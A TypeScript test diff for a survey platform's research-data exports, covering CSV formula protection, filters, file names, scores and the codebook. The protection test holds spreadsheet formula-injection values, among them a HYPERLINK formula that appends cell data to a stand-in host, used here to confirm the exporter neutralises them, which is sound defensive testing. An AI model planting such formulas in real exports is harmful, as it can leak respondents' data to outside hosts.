@@ -634,3 +634,153 @@ function crlfAsLf<T>(value: T): T {
 function protect(text: string): string {
   return /^[=+\-@\t\r']/.test(text) ? `'${text}` : text;
 }
+
+describe('research files: protection, filters, names, scores and codebook', () => {
+  it('CSV: a text a spreadsheet would run gets a quote in front, in the wide and the long file alike', async () => {
+    const wide = (await download('data-wide.csv')).body.toString('utf8');
+    const long = (await download('data-long.csv')).body.toString('utf8');
+    for (const text of ['=1+1', '-8', "@SUM(A1) og 'sitat", '+47 12 34 56 78']) {
+      expect(wide).toContain(`,'${text}`);
+      expect(long).toContain(`,'${text}`);
+      // The code -8 is written bare; the typed text "-8" must not be.
+      if (text !== '-8') expect(wide).not.toMatch(new RegExp(`,${text.replace(/[+()]/g, '\\$&')}`));
+    }
+    // A text that begins with a quote gets a second one, so that the first can always be taken off again.
+    expect(wide).toContain(`"''=HYPERLINK(""http://x.invalid/""&B2,""Klikk"")"`);
+    const rows: Record<string, string>[] = parse(wide, { columns: true });
+    const longRows: Record<string, string>[] = parse(long, { columns: true });
+    for (const row of longRows.filter((r) => r.item === 'comment')) {
+      expect(rows.find((r) => r.response === row.response)!.comment).toBe(row.value);
+    }
+    // Codes are numbers and stay as they are; a typed "-8" is text and does not.
+    expect(rows.map((r) => r.comment)).toContain("'-8");
+    expect(rows.map((r) => r.workplace)).toContain('-8');
+    expect(rows.map((r) => r.hope_2)).toContain('-7');
+    expect(rows.map((r) => r.hours)).toEqual(expect.arrayContaining(['7.25', '0.5', '12.125']));
+  });
+
+  it('filters by role and day of submission, numbering the rows afresh, and names bad values', async () => {
+    const rowsOf = async (query: string) =>
+      parse((await download('data-wide.csv', query)).body.toString('utf8'), { columns: true }) as Record<
+        string,
+        string
+      >[];
+    const users = await rowsOf('?roles=SERVICE_USER');
+    expect(users.map((r) => r.role)).toEqual(['SERVICE_USER', 'SERVICE_USER']);
+    expect(users.map((r) => r.response)).toEqual(['1', '2']);
+    const two = await rowsOf('?roles=PROFESSIONAL,CONSULTANT');
+    expect(two).toHaveLength(5);
+    const today = two[0]!.submitted_on!;
+    const day = (offset: number) =>
+      new Date(Date.parse(today) + offset * 86_400_000).toISOString().slice(0, 10);
+    expect(await rowsOf(`?from=${today}&to=${today}`)).toHaveLength(SUBMISSIONS.length);
+    expect(await rowsOf(`?from=${day(1)}`)).toHaveLength(0);
+    expect(await rowsOf(`?to=${day(-1)}`)).toHaveLength(0);
+    const scores = (await download('scores.csv', '?roles=SERVICE_USER')).body.toString('utf8');
+    expect(parse(scores, { columns: true })).toHaveLength(2);
+
+    const refused = async (query: string) => {
+      const response = await fetch(`${server.url}/exports/${project.id}/data-wide.csv${query}`, {
+        headers: { cookie: `verdi_session=${session}` },
+      });
+      expect(response.status, query).toBe(400);
+      return ((await response.json()) as { error: string }).error;
+    };
+    expect(await refused('?roles=SERVICE_USER,ADMIN')).toBe(
+      'Not a respondent role: "ADMIN"; choose from SERVICE_USER, PROFESSIONAL, CONSULTANT',
+    );
+    expect(await refused('?from=2026-02-30')).toContain('from=2026-02-30 is not a date');
+    expect(await refused('?to=31.12.2026')).toContain('to=31.12.2026 is not a date; give it as YYYY-MM-DD');
+    expect(await refused('?from=2026-03-02&to=2026-03-01')).toBe('from=2026-03-02 is after to=2026-03-01');
+    expect(await refused('?roles=CONSULTANT&roles=PROFESSIONAL')).toContain('Give roles once');
+  });
+
+  it('names every file of one selection alike on any day, and a script names its own data file', async () => {
+    const rounds = await server.db.orm.em.fork().find(Wave, { project: project.id });
+    const all = (await download('data-wide.csv')).name;
+    expect(all).toMatch(new RegExp(`^verdi_${project.slug}_[0-9a-f]{8}_data-wide\\.csv$`));
+    expect((await download('data-wide.csv', `?rounds=${rounds.map((r) => r.id).join(',')}`)).name).toBe(all);
+    expect((await download('data-wide.csv')).name).toBe(all);
+    const users = (await download('data-wide.csv', '?roles=SERVICE_USER')).name;
+    expect(users).not.toBe(all);
+    const script = await download('read-data.R', '?roles=SERVICE_USER');
+    expect(script.name.replace('read-data.R', 'data-wide.csv')).toBe(users);
+    expect(script.body.toString('utf8')).toContain(`"${users}"`);
+    expect((await download('data-wide.csv', `?rounds=${rounds[0]!.id}`)).name).not.toBe(all);
+  });
+
+  it('scores.csv: each response’s stored construct scores, numbered like the data files', async () => {
+    const rows: Record<string, string>[] = parse((await download('scores.csv')).body.toString('utf8'), {
+      columns: true,
+    });
+    const wide: Record<string, string>[] = parse((await download('data-wide.csv')).body.toString('utf8'), {
+      columns: true,
+    });
+    expect(Object.keys(rows[0]!)).toEqual([
+      'response',
+      'round',
+      'role',
+      'submitted_on',
+      'language',
+      'linkage',
+      'hope_score',
+      'hope_answered',
+      'hope_shown',
+    ]);
+    const stored = await server.db.orm.em
+      .getConnection()
+      .execute<{ score: number | null; answered: number | null; shown: number | null }[]>(
+        `select s.score, s.answered_items as answered, s.shown_items as shown
+         from responses r join waves w on w.id = r.wave_id
+         left join construct_scores s on s.response_id = r.id and s.construct_key = 'hope'
+        where w.project_id = ? and r.status = 'SUBMITTED' order by w.opens_at, r.id`,
+        [project.id],
+      );
+    expect(rows.map((r) => [r.response, r.round, r.role])).toEqual(
+      wide.map((r) => [r.response, r.round, r.role]),
+    );
+    expect(rows.map((r) => [r.hope_score, r.hope_answered, r.hope_shown])).toEqual(
+      stored.map((s) =>
+        s.score === null ? ['', '', ''] : [String(Number(s.score)), String(s.answered), String(s.shown)],
+      ),
+    );
+    // On the 0–4 scale the reverse item counts as 4 − answer: 4 and 0 make a mean of 4.
+    const first = wide.findIndex((r) => r.hope_1 === '4' && r.hope_2 === '0');
+    expect(rows[first]).toMatchObject({ hope_score: '4', hope_answered: '2', hope_shown: '2' });
+  });
+
+  it('codebook: bounds, show-if, required, construct, scoring, codes and the instrument version of each round', async () => {
+    const rows: Record<string, string>[] = parse((await download('codebook.csv')).body.toString('utf8'), {
+      columns: true,
+    });
+    expect(rows.find((r) => r.variable === 'hope_2')).toMatchObject({
+      scale_min: '0',
+      scale_max: '4',
+      reverse_scored: 'yes',
+      scoring: 'reverse-scored in hope: 4 − answer',
+      construct_label_nb: 'Håp',
+      not_applicable_code: '-7',
+      not_shown_code: '-8',
+      skipped: 'empty cell',
+    });
+    expect(rows.find((r) => r.variable === 'follow')!.show_if).toBe('hope_1 > 2');
+    expect(rows.find((r) => r.variable === 'services__work')!.show_if).toBe('contact = 1');
+    expect(rows.find((r) => r.variable === 'hours')).toMatchObject({ scale_min: '0', scale_max: '100' });
+    expect(rows.find((r) => r.variable === 'comment')!.not_applicable_code).toBe('');
+    const json = JSON.parse((await download('codebook.json')).body.toString('utf8')) as {
+      rounds: { label: string; order: number; instrumentVersion: number }[];
+      notShownCode: number;
+      constructs: { key: string; scoreColumns: string[] }[];
+      scoring: string;
+      formulaProtection: string;
+    };
+    expect(json.rounds.map((r) => [r.order, r.label, r.instrumentVersion])).toEqual([
+      [1, ROUNDS[0], 1],
+      [2, ROUNDS[1], 1],
+    ]);
+    expect(json.notShownCode).toBe(-8);
+    expect(json.constructs[0]!.scoreColumns).toEqual(['hope_score', 'hope_answered', 'hope_shown']);
+    expect(json.scoring).toContain('scale minimum + scale maximum − answer');
+    expect(json.formulaProtection).toContain("'");
+  });
+});
